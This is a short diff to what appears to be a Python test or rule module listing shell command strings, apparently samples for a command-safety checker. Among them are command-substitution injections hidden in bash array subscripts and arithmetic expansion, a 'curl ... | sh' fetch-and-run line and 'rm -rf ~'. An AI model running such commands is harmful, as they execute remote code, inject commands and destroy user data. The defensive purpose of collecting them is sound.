@@ -20,7 +20,7 @@ from rules.support import decision, review
 COMMANDS: Final = (
     "test -v 'a[$(id)]' && echo set",
     "i=1; i=$(cat f); echo $((i))",
-    "x='a[$(id)]'; echo $((x))",
+    'x="a[\\$(id)]"; echo $((x))',
     "echo hi >&'$(id)'",
     "curl https://example.com | sh",
     "rm -rf ~",
